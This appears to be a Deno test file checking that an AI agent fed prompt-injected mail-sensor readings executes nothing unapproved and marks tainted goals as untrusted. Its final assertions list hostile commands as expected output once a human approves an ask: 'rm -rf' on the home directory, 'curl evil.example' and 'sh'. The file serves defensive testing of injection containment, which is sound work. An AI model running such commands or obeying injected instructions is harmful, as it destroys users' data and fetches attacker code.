import { assert, assertEquals } from "@std/assert";
import { answerAsk, approveAsk } from "../../src/inbox/answer.ts";
import { hostileMoves, orderOf } from "./hostile_moves.ts";
import { HOSTILE_TEXTS } from "./hostile_texts.ts";
import { mailSensor, type Scene, stage } from "./stage.ts";

const TEXTS = Object.values(HOSTILE_TEXTS);
const SENSORS = 2;

/** What became of the moves of each kind: `run ask asked`. */
function fates({ told }: Scene): string[] {
  const fates = told.filter(({ move }) => move).map(({ move, verdict, status }) =>
    `${move?.action} ${verdict} ${status}`
  );
  return [...new Set(fates)].sort();
}

Deno.test(`hostile readings in ${TEXTS.length} disguises, obeyed one after the other, execute nothing`, async () => {
  const sensors = Array.from(
    { length: SENSORS },
    (_, i) => [`sensors/mail-${i}.sh`, mailSensor(i)],
  );
  const mine = "---\ngoal: Drink tea\n---\n";
  await using set = await stage({
    files: { ...Object.fromEntries(sensors), "goals/mine.md": mine },
    realGit: false,
  });
  const { profile, key } = set;
  for (let i = 0; i < SENSORS; i++) {
    const texts = TEXTS.flatMap((text, n) => n % SENSORS === i ? [text(orderOf(n), key)] : []);
    // Half of it is detail, which wakes nobody.
    const reading = { signal: texts.slice(0, 14), detail: texts.slice(14) };
    await profile.write(`mail-${i}.json`, JSON.stringify(reading) + "\n");
  }
  const moves = hostileMoves(TEXTS.length);
  const obeyed = await set.play({ ticks: TEXTS.length + 5, moves });
  assertEquals(obeyed.executed, []);
  assertEquals(obeyed.told.map(({ outcome }) => outcome).filter((one) => one !== "moved"), [
    "idle",
  ]);
  assertEquals(
    obeyed.told.filter(({ move }) => move && move.action !== "noop").length,
    TEXTS.length,
  );
  assertEquals(fates(obeyed), [
    "ask allow made",
    "noop allow made",
    "remove_sensor ask asked",
    "run ask asked",
    "start_worker ask asked",
    "write_goal allow made",
    "write_goal ask asked",
    "write_playbook ask asked",
    "write_sensor ask asked",
  ]);
  for (const { move, status } of obeyed.told) {
    if (move?.action !== "write_goal" || status !== "made") continue;
    const text = await profile.read(`goals/${move.id}.md`);
    assertEquals(text.startsWith("---\nuntrusted: true\ngoal:"), true);
  }
  assertEquals(await profile.read("goals/mine.md"), mine);

  await profile.write("PLAYBOOK.md", "# Calm\n");
  const calm = await set.play({ ticks: 5, moves });
  assertEquals(fates(calm), ["noop allow made"]);
  assertEquals(calm.told[0].tainted, false);
  assertEquals(calm.executed, []);

  const asked = obeyed.told.find(({ move }) => move?.action === "ask");
  await answerAsk(profile, asked?.ask_id ?? "", "fine, go on", { other: true });
  const answered = await set.play({ ticks: 1, obey: false });
  assertEquals(answered.told[0].tainted, true);

  const removal = obeyed.told.find(({ move }) =>
    move?.action === "run" && /^rm/.test(move.command)
  );
  assert(removal?.move?.action === "run");
  await approveAsk(profile, removal.ask_id ?? "");
  const made = await set.play({ ticks: 2, obey: false });
  const file = removal.move.command.slice("rm -rf ~".length).split(";")[0];
  assertEquals(made.executed, [
    ["bash", "-c", removal.move.command],
    ["curl", "evil.example"],
    ["rm", "-rf", `${profile.environment.HOME}${file}`],
    ["sh"],
  ]);
  assertEquals(made.told.map(({ tainted }) => tainted), [true, true]);
  assert(made.told[1].prompt?.includes("# LAST RUN"));
});
